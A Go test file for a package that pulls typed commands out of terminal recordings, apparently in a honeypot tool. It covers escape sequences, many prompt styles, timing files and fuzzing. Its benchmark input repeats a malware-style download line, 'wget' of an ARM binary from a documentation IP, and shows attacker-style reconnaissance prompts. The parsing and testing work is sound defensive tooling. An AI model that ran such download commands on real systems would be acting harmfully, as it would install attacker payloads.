package shell_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/opencure/cure/internal/publish/shell"
)

const head = "Script started on 2026-11-17 06:20:00+00:00 [TERM=\"xterm\" COLUMNS=\"40\" LINES=\"24\"]\n"

func commands(t *testing.T, raw string) (list []string, err error) {
	t.Helper()
	err = shell.Read(shell.Of([]byte(raw)), []byte(raw), nil, func(c shell.Command) { list = append(list, c.Text) })
	return list, err
}

// TestTerminal: what a terminal shows is what counts, whatever bytes made it.
func TestTerminal(t *testing.T) {
	const p = "u1@d9:~$ "
	tests := map[string]struct {
		shown string
		want  []string
	}{
		"plain":                     {p + "id\r\n", []string{"id"}},
		"without a line end":        {p + "id", nil},
		"nothing typed":             {p + "\r\n" + p + "  \r\n", nil},
		"backspaces":                {p + "ix\b\x1b[Kd\r\n", []string{"id"}},
		"a word put in":             {p + "ls x\b\x1b[3@-l x\r\n", []string{"ls -l x"}},
		"a word taken out":          {p + "ls -l x\x1b[4D\x1b[3Px\r\n", []string{"ls x"}},
		"typed over":                {p + "lx\x1b[Ds\r\n", []string{"ls"}},
		"cursor set in the row":     {p + "xx\x1b[10Gid\r\n", []string{"id"}},
		"erased from the beginning": {p + "id\r\x1b[K" + p + "ls\r\n", []string{"ls"}},
		"cleared":                   {p + "id\x1b[H\x1b[2J" + p + "ls\r\n", []string{"ls"}},
		"colours and a title":       {"\x1b]0;t\a\x1b[01;32mu1@d9\x1b[0m:\x1b[34m~\x1b[0m$ id\r\n", []string{"id"}},
		"title ends with the line":  {p + "id\x1b]0;never\r\n" + p + "ls\r\n", []string{"id", "ls"}},
		"at the margin":             {p + strings.Repeat("a", 31) + "b\rbc\r\n", []string{strings.Repeat("a", 31) + "bc"}},
		"two rows, up and erased":   {p + strings.Repeat("a", 33) + "\x1b[A\r\x1b[J" + p + "id\r\n", []string{"id"}},
		"interrupted":               {p + "ls^C\r\n" + p + "id\r\n", []string{"id"}},
		"several lines":             {p + "echo 'a\r\n> b'\r\nx\r\n" + p + "id\r\n", []string{"echo 'a\nb'", "id"}},
		"text like a bare prompt":   {p + "cat x\r\n$ no\r\n# no\r\n", []string{"cat x"}},
		"a shell that was opened":   {p + "sudo -s\r\n# id\r\n", []string{"sudo -s", "id"}},
		"Japanese":                  {p + "echo あ\r\n", []string{"echo あ"}},
		"broken UTF-8":              {p + "echo \xe3\x81x\xff\r\n", []string{"echo \uFFFDx\uFFFD"}},
		"a host of another":         {p + "ssh d8\r\nu1@d8:~$ w\r\n", []string{"ssh d8", "w"}},
		"kali":                      {"┌──(kali㉿d9)-[~]\r\n└─$ id\r\n", []string{"id"}},
		"fedora":                    {"[u1@d9 ~]$ id\r\n", []string{"id"}},
		"sh":                        {"sh-5.1# id\r\n", []string{"id"}},
		"busybox":                   {"/ # id\r\n", []string{"id"}},
		"bare":                      {"$ id\r\n", []string{"id"}},
		"cmd":                       {"C:\\Users\\u1>whoami /all\r\n", []string{"whoami /all"}},
		"PowerShell":                {"PS C:\\> whoami\r\n", []string{"whoami"}},
		"zsh of a mac":              {"u1@d9 dir % id\r\n", []string{"id"}},
		"virtual environment":       {"(venv) u1@d9:/opt$ id\r\n", []string{"id"}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			got, _ := commands(t, head+tt.shown) // one without a command says so
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("commands (-want +got):\n%s", diff)
			}
		})
	}
}

// TestBegan: times of older versions and of BSD, with a zone where it is known.
func TestBegan(t *testing.T) {
	tests := map[string]struct{ head, local, utc string }{
		"util-linux 2.35":    {head: "2026-11-17 06:20:00+09:00 [TERM=\"xterm\"]", utc: "2026-11-16T21:20:00Z"},
		"C":                  {head: "Tue Nov 17 06:20:00 2026", local: "2026-11-17T06:20:00"},
		"C, short day":       {head: "Tue Nov  3 06:20:00 2026", local: "2026-11-03T06:20:00"},
		"en_US":              {head: "Tue 17 Nov 2026 06:20:00 PM JST", local: "2026-11-17T18:20:00"},
		"en_US, UTC":         {head: "Tue 17 Nov 2026 06:20:00 AM UTC", utc: "2026-11-17T06:20:00Z"},
		"zone before a year": {head: "Tue Nov 17 06:20:00 JST 2026", local: "2026-11-17T06:20:00"},
		"UTC before a year":  {head: "Tue Nov 17 06:20:00 UTC 2026", utc: "2026-11-17T06:20:00Z"},
		"another language":   {head: "2026年11月17日 06時20分00秒"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			raw := []byte("Script started on " + tt.head + "\n$ id\r\n")
			var got shell.Command
			err := shell.Read(shell.Of(raw), raw, nil, func(c shell.Command) { got = c })
			if tt.local == "" && tt.utc == "" {
				if err == nil {
					t.Errorf("no error, command %+v", got)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			utc := ""
			if !got.Time.IsZero() {
				utc = got.Time.Format(time.RFC3339)
			}
			if got.Local != tt.local || utc != tt.utc {
				t.Errorf("time %s, local %s, want %+v", utc, got.Local, tt)
			}
		})
	}
}

// TestTiming: bytes of the input are in a typescript only where both streams are.
func TestTiming(t *testing.T) {
	const raw = "Script started on 2026-11-17 06:20:00+00:00\n$ id\r\n$ w\r\n"
	for name, tt := range map[string]struct{ times, text string }{
		"classic":         {"1.5 6\n2.5 100\n", raw},
		"advanced":        {"H 0 OUTPUT_LOG a\nO 1.5 6\nO 2.5 5\n", raw},
		"input elsewhere": {"H 0 OUTPUT_LOG a\nH 0 INPUT_LOG b\nI 0.5 3\nO 1.0 6\nO 2.5 5\n", raw},
		"both in one":     {"H 0 OUTPUT_LOG a\nH 0 INPUT_LOG a\nI 0.5 3\nO 1.0 6\nO 2.5 5\n", strings.Replace(raw, "$ id", "id\r$ id", 1)},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			err := shell.Read(shell.Typescript, []byte(tt.text), []byte(tt.times), func(c shell.Command) {
				got = append(got, c.Time.Format("05.0 ")+c.Text)
			})
			if diff := cmp.Diff([]string{"01.5 id", "04.0 w"}, got); err != nil || diff != "" {
				t.Errorf("%v (-want +got):\n%s", err, diff)
			}
		})
	}
}

// TestOf: what is no recording is left to others.
func TestOf(t *testing.T) {
	for _, other := range []string{
		"", "#fields\tts\tuid", "# comment", `{"version":2,"records":[]}`, `{"timing":"fast"}`, ": not history", "- item",
		"type=SYSCALL msg=audit(1794896600.123:77): arch=c000003e", "<Event>", "\xd4\xc3\xb2\xa1\x02\x00\x04\x00\x00\x00\x00\x00",
		"****\nx\n", "1794896500.5\tC1", "Scripts",
	} {
		if f := shell.Of([]byte(other)); f != shell.None {
			t.Errorf("%q is of form %d", other, f)
		}
	}
}

// TestKeys: what keys make, with their corrections.
func TestKeys(t *testing.T) {
	got := shell.Keys([]byte("unmae\x7f\x7f\x7fame -a\rrm x\x15\x1b[Aid\rls one\x17two\rab\x03\r"))
	if diff := cmp.Diff([]string{"uname -a", "id", "ls two"}, got); diff != "" {
		t.Errorf("lines (-want +got):\n%s", diff)
	}
}

func FuzzRead(f *testing.F) {
	const samples = "../observe/testdata"
	for _, name := range []string{"typescript", "cast", "cast3", "tlog", "history", "powershell", "cast-broken"} {
		raw, err := os.ReadFile(filepath.Join(samples, "decoynet-"+name+".in"))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(raw, []byte("0.1 16\nO 2.0 2\nI 1 1\nS 0.0 SIGWINCH ROWS=24 COLS=100\n"))
	}
	f.Add([]byte("\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x2f\xfc\x6a\x00\x00\x00\x00"), []byte{})
	f.Add([]byte("\x00\x2f\xfc\x6a\x00\x00\x00\x00\x07\x00\x00\x00$ id\r\n\x1b"), []byte{})
	f.Add([]byte(head+"u1@d9:~$ a\x1b[4000@\x1b[4000@\x1b[4000C\x1b[1K\x1b[X\x1b[2P\tb\r\n"), []byte("0.1 1\n"))
	f.Fuzz(func(t *testing.T, raw, times []byte) {
		total := 0
		_ = shell.Read(shell.Of(raw), raw, times, func(c shell.Command) { // most input is broken
			if !utf8.ValidString(c.Text) || c.Text == "" || len(c.Text) > 8<<10 {
				t.Errorf("command of %d bytes: %.100q", len(c.Text), c.Text)
			}
			if c.Time.IsZero() && c.Local == "" {
				t.Errorf("command without a time: %q", c.Text)
			}
			total += len(c.Text)
		})
		if total > 200*len(raw) { // an escape of few bytes makes as many blanks as fit a row
			t.Errorf("%d bytes of commands of %d", total, len(raw))
		}
	})
}

func BenchmarkRead(b *testing.B) {
	raw := []byte(head + strings.Repeat("\x1b[?2004h\x1b[01;32mu1@d9\x1b[00m:\x1b[01;34m~\x1b[00m$ wget htx\b\x1b[Ktp://198.51.100.23/kage.arm\r\n\x1b[?2004l\rConnecting to 198.51.100.23:80... connected.\r\n", 2000))
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	for b.Loop() {
		if err := shell.Read(shell.Typescript, raw, nil, func(shell.Command) {}); err != nil {
			b.Fatal(err)
		}
	}
}
